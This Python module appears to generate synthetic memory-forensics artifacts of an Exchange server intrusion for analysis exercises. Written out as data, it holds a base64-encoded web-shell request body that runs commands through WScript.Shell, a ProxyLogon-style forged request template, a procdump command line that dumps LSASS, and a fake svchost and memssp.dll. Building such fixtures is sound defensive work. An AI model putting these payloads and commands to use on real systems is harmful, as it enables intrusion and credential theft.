"""What intruders leave in a server's memory: processes, alive and dead, code in the web server's workers, connections.

Processes, numbers, times and addresses are those of the server's logs. `more` is for images that stand alone:
deeds that no log of the estate tells of.
"""

import base64
from collections.abc import Iterator
from datetime import datetime, timedelta

import msgspec

from postvakt.estate import programs, shells
from postvakt.estate.attack import SHELL_MINUTES, proxy_steps, shell_requests
from postvakt.estate.deeds import ProxyStep, ShellRequest, acts
from postvakt.estate.intruder import ASPNET, SERVICES, SHELL, TEMP, WORKER
from postvakt.estate.machines import windows_path
from postvakt.estate.memory import ordinary, pe
from postvakt.estate.memory.description import Endpoint, Module, Process, Region
from postvakt.estate.plans import Actor, ServerPlan
from postvakt.estate.security_log import LSASS
from postvakt.estate.traffic import HOST

ASSEMBLY = "App_Web_q1z3kd0v.dll"
"""What ASP.NET made of a web shell; its `.compiled` file names it."""

ENDED = timedelta(seconds=2)
BODY = base64.b64decode(
    "cHZvMT1SZXNwb25zZS5Xcml0ZShuZXcrQWN0aXZlWE9iamVjdCgiV1NjcmlwdC5TaGVsbCIpLmV4ZWMoInszMH0iKS5TdGRPdXQuUmVhZEFsbCgp"
    "KTs="
).decode()
"""What a client sends to its web shell; the braces stand for the command."""

COOKIE_VERSION = "1941962754"
HIDDEN, PROCDUMP, UM_CHILD = 7332, 20_900, 20_904
FORGED = f"{TEMP}svchost.exe"
PACKAGE = f"{TEMP}memssp.dll"
UNLINKED = f"{TEMP}msvhlp.dll"


def after(server: ServerPlan) -> datetime | None:
    """Return the time of the last deed of those that memory can tell of; None where nobody came."""
    times = [one.time for one in (*proxy_steps(server), *shell_requests(server))]
    times += (run.time for run in programs.attack_runs(server))
    times += (actor.began for actor in server.actors)
    return max(times, default=None)


def used(server: ServerPlan) -> tuple[Actor, ...]:
    """Return the actors who used a web shell."""
    return tuple(acts(server, "use"))


def pool(server: ServerPlan, actor: Actor) -> str:
    """Return the application pool whose worker runs an actor's web shell."""
    return "MSExchangeOWAAppPool" if shells.shell(server, actor).pool == "owa" else "DefaultAppPool"


def processes(server: ServerPlan) -> list[Process]:
    """Return what intruders started, in order. The last command shell still waits; what came before it has ended."""
    runs = list(programs.attack_runs(server))
    last = max((run.time for run in runs if run.parent == WORKER), default=None)
    made = []
    for run in runs:
        alive = run.time == last or run.parent == SERVICES
        deed = run.deed
        made.append(
            Process(
                pid=run.process,
                parent=run.parent_process,
                name=run.image.rpartition("\\")[2],
                path=run.image,
                line=run.line,
                environment=ordinary.environment(server, deed.pool if deed and run.parent == WORKER else ""),
                created=run.time,
                exited=None if alive else run.time + ENDED,
                listed=alive,
                step=deed.step if deed else "",
            )
        )
    return made


def into_workers(server: ServerPlan, made: list[Process]) -> list[Process]:
    """Return the processes with what the web shells brought into the workers: the compiled page, code of the
    intruder's, and the requests that lie in their heaps."""
    for actor in used(server):
        name = pool(server, actor)
        page = shells.shell(server, actor)
        folder = f"{windows_path(ASPNET)}\\{page.pool}\\e22c2559\\92c7e946\\"
        kind = page.url_path.rpartition("/")[2].lower().replace(".", "_")
        compiled = Module(path=folder + ASSEMBLY, text=f"ASP.{kind}\0{page.url_path}\0".encode(), step="use")
        requests = tuple(
            shell_request(server, one) for one in shell_requests(server) if one.path == page.url_path
        )
        made = [
            _with(one, (compiled,), (injected(server, actor),), requests)
            if one.pid == ordinary.worker(name)
            else one
            for one in made
        ]
    came = _heap(tuple(forged(one) for one in proxy_steps(server)))
    front = ordinary.worker("MSExchangeECPAppPool")
    return [_with(one, (), (), came) if one.pid == front else one for one in made]


def _with(
    process: Process, modules: tuple[Module, ...], regions: tuple[Region, ...], heap: tuple[bytes, ...]
) -> Process:
    return msgspec.structs.replace(
        process,
        modules=process.modules + modules,
        regions=process.regions + regions,
        heap=process.heap + heap,
    )


def injected(server: ServerPlan, actor: Actor) -> Region:
    """Return a program in private memory that may run and be written: nothing legitimate has one."""
    dice = server.random(f"injected {actor.number}")
    head = pe.header(size=0x4000, base=0x180000000, stamp=0x60360000 + actor.number, dll=True)
    code = ordinary.PROLOGUE + dice.randbytes(300)
    told = f"POST /api/poll HTTP/1.1\r\nHost: {actor.address}\r\n\r\n".encode()
    return Region(name="injected", pages=(head, code, told), size=0x4000, protection="rwx", step="use")


def forged(step: ProxyStep) -> str:
    """Return a forged request as the front end received it."""
    target = step.anchor.removeprefix("ServerInfo~").rstrip("#")
    return (
        f"{step.method} {step.url} HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: {step.agent}\r\n"
        f"Cookie: X-BEResource={target}#~{COOKIE_VERSION}\r\nX-Forwarded-For: {step.actor.address}\r\n"
        f"Content-Length: {step.received}\r\n\r\n"
    )


def shell_request(server: ServerPlan, request: ShellRequest) -> bytes:
    """Return a request to a web shell with the command that it carried."""
    lines = [
        run.line
        for run in programs.attack_runs(server)
        if run.parent == WORKER and run.deed and abs((run.time - request.time).total_seconds()) < 60
    ]
    body = BODY.replace("{30}", lines[0] if lines else "cmd")
    return (
        f"POST {request.path} HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: {request.agent}\r\n"
        f"X-Forwarded-For: {request.actor.address}\r\n"
        f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n\r\n{body}"
    ).encode()


def _heap(requests: tuple[str, ...]) -> tuple[bytes, ...]:
    """Every second request as the bytes that came, the others as .NET keeps text."""
    return tuple(
        text.encode("utf-16-le") if number % 2 else text.encode() for number, text in enumerate(requests)
    )


def endpoints(server: ServerPlan, taken: datetime) -> Iterator[Endpoint]:
    """Yield the connections of those who used a web shell: theirs to the web server, which the kernel holds, and
    the one that the injected code opened to them."""
    for actor in used(server):
        dice = server.random(f"connection {actor.number}")
        yield Endpoint(
            pid=4,
            local=server.address,
            port=443,
            remote=actor.address,
            remote_port=dice.randrange(49152, 65536),
            created=taken - timedelta(minutes=2),
            step="use",
        )
        yield Endpoint(
            pid=ordinary.worker(pool(server, actor)),
            local=server.address,
            port=dice.randrange(49152, 65536),
            remote=actor.address,
            remote_port=443,
            created=actor.at(max(SHELL_MINUTES["use"]) + 1),
            step="use",
        )


def more(server: ServerPlan, taken: datetime) -> Iterator[Process]:
    """Yield what no log of the estate tells of: a dump of LSASS by a tool, a shell under Unified Messaging, a
    process that took itself off the kernel's list, one whose block names no page directory."""
    shells_alive = [one for one in processes(server) if one.exited is None and one.path == SHELL]
    for one in shells_alive[:1]:
        tool = f"{TEMP}procdump64.exe"
        yield Process(
            pid=PROCDUMP,
            parent=one.pid,
            name="procdump64.exe",
            path=tool,
            line=f"{tool} -accepteula -ma lsass.exe {TEMP}mem.dmp",
            environment=one.environment,
            created=one.created + timedelta(seconds=7),
            step="dump",
        )
    if server.machine.release.unified_messaging:
        exchange = programs.exchange_bin(server)
        um = programs.standing_process(f'"{exchange}UMWorkerProcess.exe" -startupMode:Single -port:5065')
        yield Process(
            pid=UM_CHILD,
            parent=um,
            name="cmd.exe",
            path=SHELL,
            line='"cmd.exe" /c whoami > C:\\inetpub\\wwwroot\\aspnet_client\\um.txt',
            environment=ordinary.environment(server),
            created=taken - timedelta(minutes=4),
            step="um",
            parameters="transition",
        )
    yield Process(
        pid=HIDDEN,
        parent=programs.standing_process(programs.STARTER[1]),
        name="svchost.exe",
        path=FORGED,
        line=f"{FORGED} -k netsvcs",
        environment=ordinary.environment(server),
        created=taken - timedelta(minutes=9),
        listed=False,
        step="use",
        regions=(Region(name="unpacked", pages=(ordinary.PROLOGUE * 20,), protection="rwx", step="use"),),
    )


def package(process: Process) -> Process:
    """Return LSASS with a foreign security package, a web server's worker with a library that took itself off the
    loader's lists, or any other process as it is."""
    if process.pid == LSASS:
        return _with(process, (Module(path=PACKAGE, step="dump"),), (), ())
    if process.pid == ordinary.worker("DefaultAppPool"):
        return _with(process, (Module(path=UNLINKED, linked=False, step="use"),), (), ())
    return process
